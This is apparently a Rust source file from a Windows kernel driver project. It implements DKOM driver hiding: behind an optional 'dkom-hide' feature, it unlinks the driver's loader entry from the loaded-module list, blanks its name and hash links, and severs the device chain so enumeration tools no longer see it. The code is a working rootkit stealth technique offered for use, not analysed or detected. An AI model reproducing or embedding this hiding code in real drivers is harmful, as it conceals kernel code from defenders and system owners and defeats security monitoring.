//! DKOM driver hiding.
//!
//! Unlinking the loader entry hides the driver from module enumeration, but
//! there is no safe way to restore the links at unload time once the list has
//! moved on. The real unlink therefore only compiles with the non-default
//! `dkom-hide` feature; the default build keeps the dead branch and logs that
//! hiding is disabled. Do not enable the feature on a driver you intend to
//! unload.

use crate::nt::include::DRIVER_OBJECT;

#[cfg(feature = "dkom-hide")]
mod unlink {
    use winapi::shared::ntdef::{LIST_ENTRY, UNICODE_STRING};

    /// Undocumented loader entry layout; the standard fields used for DKOM.
    /// Later fields vary by OS version and are not needed here.
    #[repr(C)]
    #[allow(bad_style)]
    pub(super) struct LDR_DATA_TABLE_ENTRY {
        pub in_load_order_links: LIST_ENTRY,
        pub in_memory_order_links: LIST_ENTRY,
        pub in_initialization_order_links: LIST_ENTRY,
        pub dll_base: *mut core::ffi::c_void,
        pub entry_point: *mut core::ffi::c_void,
        pub size_of_image: u32,
        pub full_dll_name: UNICODE_STRING,
        pub base_dll_name: UNICODE_STRING,
        pub flags: u32,
        pub load_count: u16,
        pub tls_index: u16,
        pub hash_links: LIST_ENTRY,
        pub time_date_stamp: u32,
    }
}

/// Hides the driver from the loaded-module list.
#[allow(unused_variables)]
pub fn hide_driver(driver: *mut DRIVER_OBJECT) {
    #[cfg(feature = "dkom-hide")]
    unsafe {
        use unlink::LDR_DATA_TABLE_ENTRY;

        if driver.is_null() {
            return;
        }

        let entry = (*driver).DriverSection as *mut LDR_DATA_TABLE_ENTRY;
        if entry.is_null() {
            return;
        }

        // Splice the load-order links and blank the identifying fields. The
        // entry itself stays allocated; only the list no longer reaches it.
        let links = &mut (*entry).in_load_order_links;
        (*links.Flink).Blink = links.Blink;
        (*links.Blink).Flink = links.Flink;

        (*entry).hash_links.Flink = core::ptr::null_mut();
        (*entry).hash_links.Blink = core::ptr::null_mut();
        (*entry).base_dll_name.Length = 0;

        if !(*driver).DeviceObject.is_null() {
            (*(*driver).DeviceObject).NextDevice = core::ptr::null_mut();
        }

        log::info!("Driver unlinked from the loader list; unload is no longer safe");
        return;
    }

    #[cfg(not(feature = "dkom-hide"))]
    log::info!("DKOM hiding disabled for safe unload");
}

/// Counterpart of [`hide_driver`]. With hiding disabled there is nothing to
/// restore.
pub fn unhide_driver() {
    log::info!("Nothing to restore (hiding disabled)");
}
